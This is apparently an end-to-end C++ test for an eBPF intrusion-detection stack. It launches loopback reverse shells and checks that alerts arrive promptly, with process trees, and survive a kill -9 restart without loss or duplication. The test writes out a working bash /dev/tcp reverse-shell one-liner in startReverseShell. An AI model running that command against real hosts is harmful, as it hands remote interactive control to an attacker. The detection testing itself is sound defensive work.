// End to end through the whole all-in-one stack started by `vigilctl up` (root: the driver's
// eBPF): a reverse shell on this host is an alert in the manager's API within 10 s, with its
// process tree; and after a kill -9 of every stack process in the middle of a burst of reverse
// shells, `vigilctl up` on the same data directory brings every expected alert exactly once.
#include <arpa/inet.h>
#include <dirent.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include <gtest/gtest.h>
#include <httplib.h>
#include <nlohmann/json.hpp>

#include "tests/e2e/stack_ports.h"
#include "tests/support/run_command.h"

namespace vigil::testing {
namespace {

using namespace std::chrono_literals;
using nlohmann::json;
using Clock = std::chrono::steady_clock;

const char* kRule = "reverse_shell_socket_stdio";

std::string buildDir() {
    const char* b = std::getenv("VIGIL_BUILD_DIR");
    return b ? b : VIGIL_BUILD_DIR;
}

// A TCP listener on 127.0.0.1 for one reverse shell: accepts it, sends `exit`, reads until the
// shell closes (bounded), so the shell ends by itself.
class ShellListener {
public:
    ShellListener() {
        fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        sockaddr_in a{};
        a.sin_family = AF_INET;
        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        socklen_t len = sizeof(a);
        if (fd_ < 0 || ::bind(fd_, reinterpret_cast<sockaddr*>(&a), len) != 0 ||
            ::listen(fd_, 4) != 0 ||
            ::getsockname(fd_, reinterpret_cast<sockaddr*>(&a), &len) != 0) {
            return;
        }
        port_ = ntohs(a.sin_port);
        thread_ = std::thread([this] { serve(); });
    }
    ~ShellListener() {
        if (thread_.joinable()) thread_.join();
        if (fd_ >= 0) ::close(fd_);
    }
    int port() const { return port_; }
    // True once the shell connected (after join: whether it ever did).
    bool accepted() const { return accepted_; }
    void join() {
        if (thread_.joinable()) thread_.join();
    }
    // Blocks until the shell has connected or `timeout` passed.
    bool waitAccepted(std::chrono::milliseconds timeout) const {
        const auto end = Clock::now() + timeout;
        while (!accepted_ && Clock::now() < end) std::this_thread::sleep_for(5ms);
        return accepted_;
    }

private:
    void serve() {
        pollfd p{fd_, POLLIN, 0};
        if (::poll(&p, 1, 15000) != 1) return;
        const int c = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
        if (c < 0) return;
        accepted_ = true;
        // Give the shell a moment to be seen whole (exec recorded) before it is told to leave.
        std::this_thread::sleep_for(300ms);
        (void)!::write(c, "exit\n", 5);
        char buf[4096];
        const auto end = Clock::now() + 5s;
        pollfd r{c, POLLIN, 0};
        while (Clock::now() < end && ::poll(&r, 1, 200) >= 0) {
            if ((r.revents & (POLLIN | POLLHUP)) && ::read(c, buf, sizeof(buf)) <= 0) break;
        }
        ::close(c);
    }

    int fd_ = -1;
    int port_ = 0;
    std::atomic<bool> accepted_{false};
    std::thread thread_;
};

// `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1`, bounded by timeout(1); returns the pid to reap.
pid_t startReverseShell(int port) {
    const std::string cmd = "bash -i >& /dev/tcp/127.0.0.1/" + std::to_string(port) + " 0>&1";
    const pid_t pid = ::fork();
    if (pid == 0) {
        ::execl("/usr/bin/timeout", "timeout", "-s", "KILL", "15", "/bin/bash", "-c", cmd.c_str(),
                nullptr);
        ::_exit(127);
    }
    return pid;
}

class StackE2E : public ::testing::Test {
protected:
    void SetUp() override {
        if (::geteuid() != 0) GTEST_SKIP() << "the stack's driver needs root (eBPF)";
        vigilctl_ = buildDir() + "/bin/vigilctl";
        ASSERT_EQ(::access(vigilctl_.c_str(), X_OK), 0) << vigilctl_ << " is missing";
        char tmpl[] = "/tmp/vigil-e2e-XXXXXX";
        ASSERT_NE(::mkdtemp(tmpl), nullptr);
        data_ = tmpl;
        base_ = freeStackPortBase();
        ASSERT_NE(base_, 0) << "no 6 consecutive free loopback ports";
    }

    void TearDown() override {
        if (data_.empty()) return;
        auto r = runCommand(vigilctl_ + " down --data " + data_ + " 2>&1");
        EXPECT_EQ(r.exit_code, 0) << r.output;
        if (HasFailure()) {
            dumpLogs();
        } else {
            std::filesystem::remove_all(data_);
        }
    }

    void dumpLogs() {
        for (const auto& e : std::filesystem::directory_iterator(data_ + "/log")) {
            auto r = runCommand("tail -n 20 " + e.path().string());
            std::fprintf(stderr, "---- %s\n%s", e.path().c_str(), r.output.c_str());
        }
    }

    // `vigilctl up` on the data directory (with --ports the first time).
    CommandResult up(bool with_ports) {
        std::string cmd = vigilctl_ + " up --data " + data_;
        if (with_ports) cmd += " --ports " + std::to_string(base_);
        return runCommand(cmd + " 2>&1");
    }

    int managerPort() const { return base_ + 4; }

    std::string adminPassword() {
        std::ifstream in(data_ + "/admin-password");
        std::string pw;
        std::getline(in, pw);
        return pw;
    }

    bool login() {
        httplib::Client c("127.0.0.1", managerPort());
        json body = {{"username", "admin"}, {"password", adminPassword()}};
        auto r = c.Post("/api/v1/auth/login", body.dump(), "application/json");
        if (!r || r->status != 200) return false;
        token_ = json::parse(r->body)["data"]["token"].get<std::string>();
        return true;
    }

    // GET on the manager with the session; null when it did not answer 200.
    json get(const std::string& path) {
        httplib::Client c("127.0.0.1", managerPort());
        c.set_read_timeout(5, 0);
        auto r = c.Get(path, {{"Authorization", "Bearer " + token_}});
        if (!r || r->status != 200) return nullptr;
        return json::parse(r->body, nullptr, false);
    }

    // The reverse-shell alerts of the manager, by alert id, with the shell's dport and argv
    // (from each alert's detail, fetched once).
    struct ShellAlert {
        std::string dport, argv;
        json process_tree;
        int64_t hub_time_ms = 0;  // when the hub made it
    };
    std::map<std::string, ShellAlert> shellAlerts() {
        json list = get(std::string("/api/v1/alerts?limit=1000&rule_id=") + kRule);
        if (list.is_null()) return alerts_;
        for (const auto& a : list["data"]["items"]) {
            const std::string id = a.value("alert_id", "");
            if (id.empty() || alerts_.count(id)) continue;
            json d = get("/api/v1/alerts/" + id);
            if (d.is_null()) continue;
            const json& fields = d["data"]["alert"].value("fields", json::object());
            alerts_[id] = {fields.value("dport", ""), fields.value("argv", ""),
                           d["data"]["process_tree"], d["data"].value("hub_time_ms", int64_t{0})};
        }
        return alerts_;
    }

    // Records that reached the center's bus since the last call (one consumer group). Bounded
    // in records and in time: `--timeout` is an idle time, which a steady flow (another stack's
    // driver on the machine, a busy host) never reaches; records read but not committed at the
    // SIGINT are read again next time, which the callers' sets absorb.
    std::vector<json> newRecords() {
        auto r = runCommand("timeout -s INT 5 " + vigilctl_ + " bus tail --dir " + data_ +
                            "/center/bus --group e2e --from-start --timeout 1s --count 5000 "
                            "2>/dev/null");
        std::vector<json> out;
        size_t start = 0;
        while (start < r.output.size()) {
            size_t nl = r.output.find('\n', start);
            if (nl == std::string::npos) nl = r.output.size();
            json j = json::parse(r.output.substr(start, nl - start), nullptr, false);
            if (j.is_object()) out.push_back(std::move(j));
            start = nl + 1;
        }
        return out;
    }

    // Waits for the driver's first heartbeat (900); empty when it runs eBPF, else why not (a
    // driver that never reports is a failure).
    std::string waitDriver() {
        const auto end = Clock::now() + 60s;
        while (Clock::now() < end) {
            for (const auto& rec : newRecords()) {
                noteShellExec(rec);
                const int dt = rec.value("data_type", 0);
                if (dt == 901) return "driver unavailable: " + rec["fields"].dump();
                if (dt == 900) {
                    const std::string mode = rec["fields"].value("mode", "");
                    return mode.rfind("ebpf", 0) == 0 ? "" : "eBPF refused: mode " + mode;
                }
            }
        }
        ADD_FAILURE() << "no driver heartbeat (900 or 901) on the bus within 60 s";
        return "no driver";
    }

    // Remembers the dport of every exec (59) of `bash -i` whose stdin is a socket.
    void noteShellExec(const json& rec) {
        if (rec.value("data_type", 0) != 59 || !rec.contains("fields")) return;
        const json& f = rec["fields"];
        if (f.value("argv", "") == "bash -i" && f.value("stdin", "").rfind("socket:", 0) == 0) {
            shells_on_bus_.insert(f.value("dport", ""));
        }
    }

    // The id of the reverse-shell alert (argv "bash -i") of the shell on `port`, or "" when
    // none is in the manager by `deadline`.
    std::string waitShellAlert(int port, Clock::time_point deadline) {
        do {
            for (const auto& [id, a] : shellAlerts()) {
                if (a.dport == std::to_string(port) && a.argv == "bash -i") return id;
            }
            std::this_thread::sleep_for(100ms);
        } while (Clock::now() < deadline);
        return "";
    }

    // vigil_agent_spool_pending_batches of the agent's /metrics (-1 when it does not answer).
    long agentSpoolPending() {
        httplib::Client c("127.0.0.1", base_ + 5);
        auto r = c.Get("/metrics");
        const std::string name = "\nvigil_agent_spool_pending_batches ";
        size_t at = r && r->status == 200 ? r->body.find(name) : std::string::npos;
        return at == std::string::npos ? -1 : std::atol(r->body.c_str() + at + name.size());
    }

    pid_t servicePid(const char* name) {
        std::ifstream in(data_ + "/run/" + name + ".pid");
        pid_t pid = 0;
        in >> pid;
        return pid;
    }

    // Calls `done` until it returns true or `timeout` passed; returns its last answer.
    template <typename F>
    static bool waitFor(std::chrono::milliseconds timeout, F done) {
        const auto end = Clock::now() + timeout;
        for (;;) {
            if (done()) return true;
            if (Clock::now() >= end) return false;
            std::this_thread::sleep_for(200ms);
        }
    }

    // The dports of the reverse-shell alerts (argv "bash -i") the hub wrote to its JSON lines.
    std::set<std::string> hubAlertPorts() {
        std::set<std::string> out;
        std::ifstream in(data_ + "/hub/alerts.jsonl");
        for (std::string line; std::getline(in, line);) {
            json a = json::parse(line, nullptr, false);
            if (!a.is_object() || a.value("rule_id", "") != kRule) continue;
            const json& f = a.value("fields", json::object());
            if (f.value("argv", "") == "bash -i") out.insert(f.value("dport", ""));
        }
        return out;
    }

    void killStack() {
        std::vector<pid_t> pids;
        for (const char* name : {"agent", "manager", "hub", "center", "discovery"}) {
            std::ifstream in(data_ + "/run/" + name + ".pid");
            pid_t pid = 0;
            if (in >> pid && pid > 0) pids.push_back(pid);
        }
        // The agent's plugins are stack processes too.
        const std::set<pid_t> parents(pids.begin(), pids.end());
        for (const auto& e : std::filesystem::directory_iterator("/proc")) {
            const std::string n = e.path().filename();
            if (n.find_first_not_of("0123456789") != std::string::npos) continue;
            std::ifstream stat(e.path() / "stat");
            std::string line;
            std::getline(stat, line);
            const size_t close = line.rfind(')');
            if (close == std::string::npos) continue;
            char state = 0;
            int ppid = 0;
            if (std::sscanf(line.c_str() + close + 1, " %c %d", &state, &ppid) == 2 &&
                parents.count(ppid)) {
                pids.push_back(std::stoi(n));
            }
        }
        for (pid_t p : pids) ::kill(p, SIGKILL);
    }

    std::string vigilctl_, data_, token_;
    int base_ = 0;
    std::map<std::string, ShellAlert> alerts_;
    std::set<std::string> shells_on_bus_;
};

TEST_F(StackE2E, ReverseShellIsAnAlertWithinTenSecondsWithItsProcessTree) {
    auto r = up(true);
    ASSERT_EQ(r.exit_code, 0) << r.output;
    EXPECT_NE(r.output.find("http://127.0.0.1:" + std::to_string(managerPort())), std::string::npos)
        << r.output;
    EXPECT_NE(r.output.find(adminPassword()), std::string::npos) << "the password is printed";
    auto status = runCommand(vigilctl_ + " status --data " + data_ + " 2>&1");
    EXPECT_EQ(status.exit_code, 0) << status.output;
    if (std::string why = waitDriver(); !why.empty()) {
        if (HasFailure()) return;
        GTEST_SKIP() << why;
    }
    ASSERT_TRUE(login());

    ShellListener listener;
    ASSERT_NE(listener.port(), 0);
    const auto started = Clock::now();
    const pid_t shell = startReverseShell(listener.port());
    ASSERT_TRUE(listener.waitAccepted(10s)) << "the reverse shell did not connect";
    const std::string found = waitShellAlert(listener.port(), started + 10s);
    const auto took = std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - started);
    listener.join();
    ::waitpid(shell, nullptr, 0);
    ASSERT_FALSE(found.empty()) << "no " << kRule << " alert for dport " << listener.port()
                                << " within 10 s";
    std::printf("alert %s in the manager %lld ms after the shell started\n", found.c_str(),
                static_cast<long long>(took.count()));
    const ShellAlert& a = alerts_[found];
    EXPECT_EQ(a.argv, "bash -i");
    ASSERT_TRUE(a.process_tree.is_array());
    ASSERT_FALSE(a.process_tree.empty()) << "empty process tree";
    const std::string exe = a.process_tree[0].value("exe", "");
    EXPECT_TRUE(exe.size() >= 5 && exe.compare(exe.size() - 5, 5, "/bash") == 0)
        << a.process_tree.dump();
    EXPECT_EQ(a.process_tree[0].value("argv", ""), "bash -i") << a.process_tree.dump();
}

// The kill comes with alerts at every stage: one in the manager's store, two on the hub's
// alerts bus only (the manager frozen with SIGSTOP), three on the records bus only (the hub
// frozen too), and one shell started right before the kill (its record may still be in the
// agent). Expected after `vigilctl up` on the same directory: for every shell whose exec record
// is on the center's bus (durable there, so the stack owes its alert; a record still in the
// killed agent's memory or the driver's pipe was never acknowledged and is lost with them),
// exactly one reverse_shell_socket_stdio alert with argv "bash -i" and that shell's dport in the
// manager, counted by alert id; none for the others.
TEST_F(StackE2E, KillNineInTheMiddleThenUpAgainLosesAndRepeatsNoAlert) {
    auto r = up(true);
    ASSERT_EQ(r.exit_code, 0) << r.output;
    if (std::string why = waitDriver(); !why.empty()) {
        if (HasFailure()) return;
        GTEST_SKIP() << why;
    }
    ASSERT_TRUE(login());

    std::vector<std::unique_ptr<ShellListener>> listeners;
    std::vector<pid_t> shells;
    auto shell = [&] {
        listeners.push_back(std::make_unique<ShellListener>());
        shells.push_back(startReverseShell(listeners.back()->port()));
        return listeners.back()->waitAccepted(10s) ? listeners.back()->port() : 0;
    };
    const int in_store = shell();
    ASSERT_NE(in_store, 0);
    ASSERT_FALSE(waitShellAlert(in_store, Clock::now() + 15s).empty())
        << "the first shell's alert did not reach the manager within 15 s";

    // `n` shells, their dports (empty when one did not connect).
    auto burst = [&](int n) {
        std::set<std::string> ports;
        for (int i = 0; i < n; ++i) {
            const int port = shell();
            if (port == 0) return std::set<std::string>{};
            ports.insert(std::to_string(port));
        }
        return ports;
    };
    auto holds = [](const std::set<std::string>& all, const std::set<std::string>& some) {
        return std::includes(all.begin(), all.end(), some.begin(), some.end());
    };
    ASSERT_EQ(::kill(servicePid("manager"), SIGSTOP), 0);
    const auto on_alerts_bus = burst(2);
    ASSERT_EQ(on_alerts_bus.size(), 2u);
    ASSERT_TRUE(waitFor(15s, [&] { return holds(hubAlertPorts(), on_alerts_bus); }))
        << "the hub did not write the alerts of two shells within 15 s";

    ASSERT_EQ(::kill(servicePid("hub"), SIGSTOP), 0);
    const auto on_records_bus = burst(3);
    ASSERT_EQ(on_records_bus.size(), 3u);
    ASSERT_TRUE(waitFor(15s, [&] {
        for (const auto& rec : newRecords()) noteShellExec(rec);
        return holds(shells_on_bus_, on_records_bus);
    })) << "the exec records of three shells did not reach the bus within 15 s";

    ASSERT_NE(shell(), 0);  // the last one: killed with its record in flight, or not
    killStack();
    for (auto& l : listeners) l->join();
    for (pid_t p : shells) ::waitpid(p, nullptr, 0);

    r = up(false);
    ASSERT_EQ(r.exit_code, 0) << "up after kill -9: " << r.output;
    ASSERT_TRUE(login());
    std::set<std::string> ports;
    for (auto& l : listeners) ports.insert(std::to_string(l->port()));
    // Until the agent has resent its spool (nothing unacknowledged: every record it had kept is
    // on the bus) and every shell on the bus has its alert; bounded.
    auto perPort = [&] {
        std::map<std::string, int> n;
        for (const auto& [id, a] : shellAlerts()) {
            if (a.argv == "bash -i") ++n[a.dport];
        }
        return n;
    };
    bool drained = false;
    waitFor(30s, [&] {
        drained = drained || agentSpoolPending() == 0;
        for (const auto& rec : newRecords()) noteShellExec(rec);
        auto n = perPort();
        bool done = drained;
        for (const auto& p : shells_on_bus_) done = done && (!ports.count(p) || n[p] >= 1);
        return done;
    });
    EXPECT_TRUE(drained) << "the agent did not resend its spool within 30 s";
    std::this_thread::sleep_for(2s);  // a late repeat would land now
    auto per_port = perPort();
    int expected = 0;
    for (const auto& p : ports) {
        if (!shells_on_bus_.count(p)) {
            std::printf(
                "shell on port %s: its exec record never reached the bus (lost with the agent)\n",
                p.c_str());
            EXPECT_EQ(per_port[p], 0);
            continue;
        }
        ++expected;
        EXPECT_EQ(per_port[p], 1) << "alerts for the shell on port " << p;
    }
    EXPECT_GE(expected, 6);
    for (const auto& [id, a] : alerts_) {
        if (ports.count(a.dport) && a.argv != "bash -i") {
            std::printf("other %s alert on a shell's socket: %s (%s)\n", kRule, id.c_str(),
                        a.argv.c_str());
        }
    }
    auto status = runCommand(vigilctl_ + " status --data " + data_ + " 2>&1");
    EXPECT_EQ(status.exit_code, 0) << status.output;
}

}  // namespace
}  // namespace vigil::testing
